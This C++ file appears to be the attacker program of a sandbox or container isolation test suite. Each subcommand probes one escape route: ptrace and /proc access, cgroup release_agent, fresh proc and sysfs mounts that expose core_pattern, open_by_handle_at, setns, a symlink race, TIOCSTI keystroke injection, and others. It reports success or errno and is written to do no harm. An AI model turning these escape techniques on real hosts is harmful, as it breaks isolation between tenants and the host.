// The attacker's program: each word tries one way out and prints "ATTEMPT RESULT" lines, where RESULT is
// "done" or the name of an errno. It is static, for it runs in any tree, and harmless where it succeeds:
// files are only opened, clocks set to what they show, signals go to the process named.

#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/nsfs.h>
#include <sched.h>
#include <signal.h>
#include <sys/acct.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <functional>
#include <iterator>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

namespace {

using Words = std::vector<std::string>;
using Clock = std::chrono::steady_clock;

void tell(const std::string& attempt, bool done) {
    const char* name = done ? "done" : strerrorname_np(errno);
    std::printf("%s %s\n", attempt.c_str(), name == nullptr ? "unknown" : name);
    std::fflush(stdout);
}

// A system call's result; -1 is a failure.
void tried(const std::string& attempt, long result) {
    tell(attempt, result != -1);
}

// Opened in that way, and closed again.
bool opens(const std::string& path, int flags) {
    const int fd = open(path.c_str(), flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
    if (fd < 0) {
        return false;
    }
    close(fd);
    return true;
}

bool links(const std::string& path) {
    char target[PATH_MAX];
    return readlink(path.c_str(), target, sizeof target) > 0;
}

std::string link_of(const std::string& path) {
    char target[PATH_MAX];
    const ssize_t size = readlink(path.c_str(), target, sizeof target);
    return size < 0 ? "" : std::string(target, static_cast<std::size_t>(size));
}

std::string contents(const std::string& path) {
    std::ifstream file(path);
    return {std::istreambuf_iterator<char>(file), {}};
}

// --- processes

// kill(2) of everybody is tried in a pid namespace of its own only: its number on the host is `host`.
void signal_everybody(const std::string& host) {
    if (link_of("/proc/self/ns/pid") == host) {
        std::puts("everybody refused-to-try");
        return;
    }
    signal(SIGWINCH, SIG_IGN);
    tried("everybody", kill(-1, SIGWINCH));
}

int signals(const Words& words) {
    const pid_t target = std::atoi(words.at(0).c_str());
    tried("kill", kill(target, SIGTERM));
    tried("tgkill", syscall(SYS_tgkill, target, target, SIGTERM));
    siginfo_t info{};
    info.si_code = SI_QUEUE;
    tried("sigqueue", syscall(SYS_rt_sigqueueinfo, target, SIGTERM, &info));
    const long pidfd = syscall(SYS_pidfd_open, target, 0);
    tried("pidfd", pidfd < 0 ? -1 : syscall(SYS_pidfd_send_signal, pidfd, SIGTERM, nullptr, 0));
    signal_everybody(words.at(1));
    return 0;
}

int traces(const Words& words) {
    const pid_t target = std::atoi(words.at(0).c_str());
    const std::string proc = "/proc/" + words.at(0) + "/";
    const long seized = ptrace(PTRACE_SEIZE, target, nullptr, nullptr);
    tried("seize", seized);
    if (seized == 0) {
        ptrace(PTRACE_INTERRUPT, target, nullptr, nullptr);
        waitpid(target, nullptr, __WALL);
        ptrace(PTRACE_DETACH, target, nullptr, nullptr);
    }
    char byte = 0;
    iovec local{&byte, 1};
    iovec remote{reinterpret_cast<void*>(0x400000), 1};
    const bool read = process_vm_readv(target, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT;
    tell("vm_readv", read);
    for (const char* file : {"mem", "environ", "maps", "auxv", "stack"}) {
        tell(file, opens(proc + file, O_RDONLY) && !contents(proc + file).empty());
    }
    tell("mem", opens(proc + "mem", O_RDWR));
    for (const char* name : {"cwd", "root", "exe", "ns/net", "ns/user"}) {
        tell(name, links(proc + name));
    }
    tell("root/", opens(proc + "root/", O_RDONLY | O_DIRECTORY));
    tell("cwd/", opens(proc + "cwd/", O_RDONLY | O_DIRECTORY));
    tell("fd", opens(proc + "fd", O_RDONLY | O_DIRECTORY) && links(proc + "fd/0"));
    const long pidfd = syscall(SYS_pidfd_open, target, 0);
    tried("getfd", pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, 0, 0));
    const pid_t child = fork();
    if (child == 0) {
        const long entered = pidfd < 0 ? -1 : setns(static_cast<int>(pidfd), CLONE_NEWNS | CLONE_NEWNET);
        tried("setns", entered);
        _exit(0);
    }
    waitpid(child, nullptr, 0);
    const rlimit same{RLIM_INFINITY, RLIM_INFINITY};
    tried("prlimit", prlimit(target, RLIMIT_CORE, &same, nullptr));
    tried("priority", setpriority(PRIO_PROCESS, static_cast<id_t>(target), 5));
    return 0;
}

std::vector<pid_t> processes() {
    std::vector<pid_t> all;
    DIR* proc = opendir("/proc");
    while (const dirent* entry = proc == nullptr ? nullptr : readdir(proc)) {
        if (const pid_t pid = std::atoi(static_cast<const char*>(entry->d_name)); pid > 0) {
            all.push_back(pid);
        }
    }
    if (proc != nullptr) {
        closedir(proc);
    }
    return all;
}

// Something of the host's through a process that is just entering: its directories lead to `marker`, its
// environment or memory has the secret, or it is partctl itself that can be traced.
struct Prey {
    std::string secret;
    std::string marker;  ///< path of a file below the caller's working directory's root
    long seen = 0, refused = 0;
    std::map<std::string, long> caught = {};

    void look_at(pid_t pid) {
        const std::string proc = "/proc/" + std::to_string(pid) + "/";
        ++seen;
        if (contents(proc + "environ").find(secret) != std::string::npos) {
            ++caught["environ"];
        }
        for (const char* way : {"cwd/marker", "fd/9/marker"}) {
            if (access((proc + way).c_str(), F_OK) == 0) {
                ++caught[way];
            }
        }
        if (access((proc + "root" + marker).c_str(), F_OK) == 0) {
            ++caught["root"];
        }
        const std::string exe = link_of(proc + "exe");
        if (exe.empty() && errno == EACCES) {
            ++refused;
        }
        if (exe.ends_with("partctl")) {
            ++caught["exe"];
        }
        const bool opened = opens(proc + "mem", O_RDWR);
        if (opened && link_of(proc + "exe").ends_with("partctl")) {
            ++caught["mem"];
        }
        if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) {
            if (link_of(proc + "exe").ends_with("partctl")) {
                ++caught["seize"];
            }
            ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
            waitpid(pid, nullptr, __WALL);
            ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
        }
    }
};

int lie_in_wait(const Words& words) {
    const auto end = Clock::now() + std::chrono::milliseconds(std::atoi(words.at(0).c_str()));
    Prey prey{.secret = words.at(1), .marker = words.at(2)};
    std::puts("waiting done");
    std::fflush(stdout);
    while (Clock::now() < end && access("/tmp/enough", F_OK) != 0) {
        for (const pid_t pid : processes()) {
            if (pid != 1 && pid != getpid()) {
                prey.look_at(pid);
            }
        }
    }
    std::printf("seen %ld\nrefused %ld\n", prey.seen, prey.refused);
    for (const auto& [way, count] : prey.caught) {
        std::printf("caught-%s %ld\n", way.c_str(), count);
    }
    return 0;
}

// --- the host's program

// Everything that could change the file, once.
void write_through(const std::string& path, std::map<std::string, std::string>& results) {
    const auto note = [&](const char* how, long result) {
        results[how] = result != -1 ? "done" : strerrorname_np(errno);
    };
    for (const auto& [how, flags] :
         {std::pair{"write", O_WRONLY}, {"append", O_WRONLY | O_APPEND}, {"read-write", O_RDWR}}) {
        const int fd = open(path.c_str(), flags | O_CLOEXEC);
        note(how, fd);
        if (fd >= 0) {
            note(how, write(fd, "#!/owned", 8));
            close(fd);
        }
    }
    const int handle = open(path.c_str(), O_PATH | O_CLOEXEC);
    mount_attr writable{.attr_set = 0, .attr_clr = MOUNT_ATTR_RDONLY, .propagation = 0, .userns_fd = 0};
    note("mount_setattr", syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &writable, sizeof writable));
    mkdir("/tmp/over", 0700);
    const long clone = syscall(SYS_open_tree, handle, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
    note("clone", clone);
    const std::string again = "/proc/self/fd/" + std::to_string(handle);
    note("remount", mount(nullptr, again.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr));
    note("bind", mount(again.c_str(), "/tmp/over", nullptr, MS_BIND, nullptr));
    note("truncate", truncate(path.c_str(), 0));
    note("chmod", chmod(path.c_str(), 0777));
    note("chown", chown(path.c_str(), 1, 1));
    note("utimes", utimensat(AT_FDCWD, path.c_str(), nullptr, 0));
    note("link", linkat(handle, "", AT_FDCWD, "/linked", AT_EMPTY_PATH));
    if (clone >= 0) {
        close(static_cast<int>(clone));
    }
    close(handle);
}

// Waits, away from its parent, until the file runs nowhere any more ("text file busy"); the last results go
// into the log.
int overwrite(const Words& words) {
    struct stat st{};
    stat(words.at(0).c_str(), &st);
    std::printf("inode %lu\n", static_cast<unsigned long>(st.st_ino));
    std::fflush(stdout);
    if (fork() != 0) {
        return 0;
    }
    setsid();
    for (const int fd : {0, 1, 2}) {
        close(fd);
    }
    std::map<std::string, std::string> results;
    const auto end = Clock::now() + std::chrono::milliseconds(std::atoi(words.at(2).c_str()));
    do {
        write_through(words.at(0), results);
        usleep(10'000);
    } while (Clock::now() < end && results["write"] != "done");
    std::ofstream log(words.at(1) + ".new");
    for (const auto& [how, result] : results) {
        log << how << ' ' << result << '\n';
    }
    log.close();
    rename((words.at(1) + ".new").c_str(), words.at(1).c_str());
    return 0;
}

// --- mounts

struct Mounted {
    std::string point, options;
};

std::vector<Mounted> mounts() {
    std::vector<Mounted> all;
    std::istringstream lines(contents("/proc/self/mountinfo"));
    for (std::string line; std::getline(lines, line);) {
        std::istringstream words(line);
        std::string skipped;
        Mounted mounted;
        words >> skipped >> skipped >> skipped >> skipped >> mounted.point >> mounted.options;
        all.push_back(mounted);
    }
    return all;
}

void take_mounts_apart(const std::string& prefix) {
    for (const auto& [point, options] : mounts()) {
        if (point == "/") {
            continue;
        }
        const char* path = point.c_str();
        tried(prefix + "umount:" + point, umount2(path, 0));
        tried(prefix + "detach:" + point, umount2(path, MNT_DETACH));
        tried(prefix + "move:" + point, mount(path, "/tmp", nullptr, MS_MOVE, nullptr));
        if (options.starts_with("ro")) {
            tried(prefix + "remount:" + point, mount(nullptr, path, nullptr, MS_REMOUNT | MS_BIND, nullptr));
            mount_attr writable{
                .attr_set = 0, .attr_clr = MOUNT_ATTR_RDONLY, .propagation = 0, .userns_fd = 0};
            tried(prefix + "setattr:" + point,
                  syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof writable));
        }
    }
}

// The same in a mount and user namespace below.
void below(const std::function<void()>& work) {
    std::fflush(stdout);
    const pid_t child = fork();
    if (child == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWCGROUP) != 0) {
            tell("below", false);
            _exit(0);
        }
        const pid_t inner = fork();
        if (inner == 0) {
            work();
            std::fflush(stdout);
            _exit(0);
        }
        waitpid(inner, nullptr, 0);
        _exit(0);
    }
    waitpid(child, nullptr, 0);
}

int unmounts(const Words&) {
    take_mounts_apart("");
    below([] { take_mounts_apart("below-"); });
    return 0;
}

// A fresh one shows what the masks hide. Each is left where it is: /tmp/fresh-TYPE.
void mount_fresh(const std::string& prefix) {
    for (const char* type : {"tmpfs", "proc", "sysfs", "devtmpfs", "debugfs", "tracefs", "securityfs",
                             "configfs", "bpf", "efivarfs", "binfmt_misc", "cgroup2"}) {
        const std::string place = "/tmp/" + prefix + "fresh-" + type;
        mkdir(place.c_str(), 0700);
        tried(prefix + type, mount(type, place.c_str(), type, 0, nullptr));
        tell(prefix + type + ":sysrq", opens(place + "/sysrq-trigger", O_WRONLY));
        tell(prefix + type + ":kernel", opens(place + "/sys/kernel/core_pattern", O_WRONLY));
        tell(prefix + type + ":uevent", opens(place + "/kernel/uevent_helper", O_WRONLY));
    }
}

int fresh(const Words&) {
    mount_fresh("");
    below([] { mount_fresh("below-"); });
    return 0;
}

// --- files that change the host

// Prints the files below the directory that open for writing, those of processes aside. Nothing is written.
void find_writable(const std::string& directory, const std::string& skipped, int depth) {
    DIR* open_directory = opendir(directory.c_str());
    if (open_directory == nullptr || depth > 12) {
        return;
    }
    Words names;
    while (const dirent* entry = readdir(open_directory)) {
        names.emplace_back(static_cast<const char*>(entry->d_name));
    }
    closedir(open_directory);
    for (const std::string& name : names) {
        const std::string path = directory + "/" + name;
        struct stat st{};
        const bool own = directory == "/proc" && (std::atoi(name.c_str()) > 0 || name.ends_with("self"));
        if (name == "." || name == ".." || own || path == skipped || lstat(path.c_str(), &st) != 0) {
            continue;
        }
        if (S_ISDIR(st.st_mode)) {
            find_writable(path, skipped, depth + 1);
        } else if (S_ISREG(st.st_mode) && opens(path, O_WRONLY)) {
            std::printf("writable:%s done\n", path.c_str());
        }
    }
}

int writable(const Words& words) {
    find_writable(words.at(0), words.size() > 1 ? words.at(1) : "", 0);
    std::puts("looked done");
    return 0;
}

// --- cgroups

void try_cgroups(const std::string& prefix) {
    const Words controllers = {"cpu",     "cpuacct", "memory", "pids",   "devices",
                               "freezer", "cpuset",  "blkio",  "hugetlb"};
    std::vector<std::string> places = {"/sys/fs/cgroup"};
    const auto mount_one = [&](const std::string& name, const char* type, const char* options) {
        const std::string place = "/tmp/" + prefix + name;
        mkdir(place.c_str(), 0700);
        const long mounted = mount("none", place.c_str(), type, 0, options);
        tried(prefix + "mount:" + name, mounted);
        if (mounted == 0) {
            places.push_back(place);
        }
    };
    mount_one("cgroup2", "cgroup2", nullptr);
    for (const std::string& controller : controllers) {
        mount_one("v1-" + controller, "cgroup", controller.c_str());
    }
    mount_one("v1-named", "cgroup", "none,name=escape");
    for (const std::string& place : places) {
        find_writable(place, "", 0);
        if (place != "/sys/fs/cgroup") {
            tried(prefix + "mkdir:" + place, mkdir((place + "/new").c_str(), 0700));
            tell(prefix + "agent:" + place, opens(place + "/release_agent", O_WRONLY));
            tell(prefix + "procs:" + place, opens(place + "/cgroup.procs", O_WRONLY));
        }
    }
}

int cgroups(const Words&) {
    try_cgroups("");
    below([] { try_cgroups("below-"); });
    return 0;
}

// --- devices, names, handles

int devices(const Words& words) {
    const dev_t zero = makedev(1, 5);
    for (const char* place : {"/tmp", "/dev", "/root", "/dev/shm"}) {
        const std::string path = std::string(place) + "/node";
        tried("mknod-char:" + std::string(place), mknod(path.c_str(), S_IFCHR | 0666, zero));
        tried("mknod-block:" + std::string(place), mknod(path.c_str(), S_IFBLK | 0666, makedev(7, 0)));
    }
    for (const std::string& path : words) {
        tell("open:" + path, opens(path, O_RDONLY));
    }
    return 0;
}

// By the number of an inode, whatever the tree shows: 2 is the root of an ext4, 128 of an xfs, 1 of a tmpfs.
int handles(const Words& words) {
    alignas(file_handle) unsigned char bytes[sizeof(file_handle) + 8] = {};
    auto* handle = reinterpret_cast<file_handle*>(bytes);
    handle->handle_bytes = 8;
    handle->handle_type = 1;
    const int root = open(words.at(0).c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    for (const unsigned inode : {1U, 2U, 128U}) {
        std::memcpy(bytes + sizeof(file_handle), &inode, sizeof inode);
        const long opened = syscall(SYS_open_by_handle_at, root, handle, O_RDONLY | O_DIRECTORY);
        // A stale handle was looked up all the same: the right to do so is what counts.
        tell("handle:" + std::to_string(inode), opened != -1 || errno == ESTALE);
    }
    return 0;
}

int enters(const Words& words) {
    for (const std::string& path : words) {
        const pid_t child = fork();
        if (child == 0) {
            const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
            tell("open:" + path, fd >= 0);
            if (fd >= 0) {
                tried("setns:" + path, setns(fd, 0));
            }
            std::fflush(stdout);
            _exit(0);
        }
        waitpid(child, nullptr, 0);
    }
    for (const char* type : {"user", "pid"}) {
        const int fd = open((std::string("/proc/self/ns/") + type).c_str(), O_RDONLY | O_CLOEXEC);
        tried(std::string("parent-of-") + type, ioctl(fd, NS_GET_PARENT));
    }
    const int user = open("/proc/self/ns/user", O_RDONLY | O_CLOEXEC);
    tried("owner-of-user", ioctl(user, NS_GET_USERNS));
    return 0;
}

// --- what only the host's root may ask of the kernel

// Without effect where it is allowed.
int privileges(const Words&) {
    tried("init_module", syscall(SYS_init_module, "", 0, ""));
    tried("finit_module", syscall(SYS_finit_module, -1, "", 0));
    tried("delete_module", syscall(SYS_delete_module, "no_such_module", O_NONBLOCK));
    tried("kexec_load", syscall(SYS_kexec_load, 0, 0, nullptr, 0xffffUL));
    tried("swapon", swapon("/no/such/file", 0));
    tried("acct", acct("/no/such/file"));
    tried("reboot-by-no-magic", syscall(SYS_reboot, 0, 0, 0, nullptr));
    tried("syslog", syscall(SYS_syslog, 10 /* size of the buffer */, nullptr, 0));
    tried("quotactl", syscall(SYS_quotactl, 0x800003 << 8, "/no/such/device", 0, nullptr));
    tell("mem", opens("/dev/mem", O_RDONLY));
    tell("kmsg", opens("/dev/kmsg", O_WRONLY));
    return 0;
}

// The clock is set to what it shows, the rest is this process's own.
int self_service(const Words&) {
    timeval now{};
    gettimeofday(&now, nullptr);
    tried("settimeofday", settimeofday(&now, nullptr));
    timex clock{};
    adjtimex(&clock);
    clock.modes = ADJ_TICK;
    tried("adjtimex", adjtimex(&clock));
    tried("nice", setpriority(PRIO_PROCESS, 0, -5));
    sched_param realtime{.sched_priority = 1};
    tried("realtime", sched_setscheduler(0, SCHED_FIFO, &realtime));
    rlimit limit{};
    getrlimit(RLIMIT_NOFILE, &limit);
    ++limit.rlim_max;
    tried("rlimit", setrlimit(RLIMIT_NOFILE, &limit));
    tried("oom", opens("/proc/self/oom_score_adj", O_WRONLY) &&
                         std::ofstream("/proc/self/oom_score_adj").write("-1000", 5).flush().good()
                     ? 0
                     : -1);
    return 0;
}

// Restarts the machine that it is on: only where the pid namespace is not the host's, whose number is given.
int reboots(const Words& words) {
    if (link_of("/proc/self/ns/pid") == words.at(0)) {
        std::puts("reboot refused-to-try");
        return 0;
    }
    tried("reboot", reboot(RB_AUTOBOOT));
    return 0;
}

int keys(const Words& words) {
    const long key = std::atol(words.at(0).c_str());
    char text[64];
    tried("read", syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text));
    tried("describe", syscall(SYS_keyctl, KEYCTL_DESCRIBE, key, text, sizeof text));
    tried("link", syscall(SYS_keyctl, KEYCTL_LINK, key, KEY_SPEC_PROCESS_KEYRING));
    tried("revoke-permission", syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f0000U));
    for (const auto& [name, ring] : {std::pair{"session", KEY_SPEC_SESSION_KEYRING},
                                     {"user", KEY_SPEC_USER_KEYRING},
                                     {"user-session", KEY_SPEC_USER_SESSION_KEYRING}}) {
        tried(std::string("search-") + name,
              syscall(SYS_keyctl, KEYCTL_SEARCH, ring, "user", words.at(1).c_str(), 0));
    }
    return 0;
}

// A key in the session's keyring, then the program.
int with_key(const Words& words) {
    syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, nullptr);
    const long key = syscall(SYS_add_key, "user", words.at(0).c_str(), "secret", 6, KEY_SPEC_SESSION_KEYRING);
    if (key < 0) {
        tell("add_key", false);
        return 1;
    }
    std::vector<std::string> command(words.begin() + 1, words.end());
    std::vector<char*> arguments;
    for (std::string& word : command) {
        word = word == "KEY" ? std::to_string(key) : word;
        arguments.push_back(word.data());
    }
    arguments.push_back(nullptr);
    execvp(arguments[0], arguments.data());
    return 1;
}

// A name that is a directory one moment and a symbolic link the next.
int flip(const Words& words) {
    const std::string other = words.at(0) + ".other";
    mkdir(words.at(0).c_str(), 0755);
    unlink(other.c_str());
    tried("link", symlink(words.at(1).c_str(), other.c_str()));
    const auto end = Clock::now() + std::chrono::milliseconds(std::atoi(words.at(2).c_str()));
    long times = 0;
    while (Clock::now() < end && access((words.at(0) + ".enough").c_str(), F_OK) != 0) {
        for (int i = 0; i < 100; ++i) {
            times += renameat2(AT_FDCWD, words.at(0).c_str(), AT_FDCWD, other.c_str(), RENAME_EXCHANGE) == 0;
        }
    }
    std::printf("flips %ld\n", times);
    return 0;
}

// Puts words into the input of its own terminal, as if somebody had typed them.
int types(const Words& words) {
    for (const char letter : words.at(0)) {
        if (ioctl(STDIN_FILENO, TIOCSTI, &letter) != 0) {
            tell("tiocsti", false);
            return 0;
        }
    }
    tell("tiocsti", true);
    return 0;
}

int descriptors(const Words&) {
    for (int fd = 0; fd < 1024; ++fd) {
        if (fcntl(fd, F_GETFD) != -1) {
            std::printf("%d %s\n", fd, link_of("/proc/self/fd/" + std::to_string(fd)).c_str());
        }
    }
    return 0;
}

const std::map<std::string_view, int (*)(const Words&)> kAttacks = {
    {"signals", signals},           {"traces", traces},     {"wait", lie_in_wait},
    {"overwrite", overwrite},       {"unmounts", unmounts}, {"fresh", fresh},
    {"writable", writable},         {"cgroups", cgroups},   {"devices", devices},
    {"handles", handles},           {"enters", enters},     {"privileges", privileges},
    {"self-service", self_service}, {"reboots", reboots},   {"keys", keys},
    {"with-key", with_key},         {"flip", flip},         {"types", types},
    {"descriptors", descriptors}};

}  // namespace

int main(int count, char** arguments) {
    alarm(60);
    const auto attack = kAttacks.find(count > 1 ? arguments[1] : "");
    if (attack == kAttacks.end()) {
        std::fputs("no such attack\n", stderr);
        return 2;
    }
    return attack->second(Words(arguments + 2, arguments + count));
}
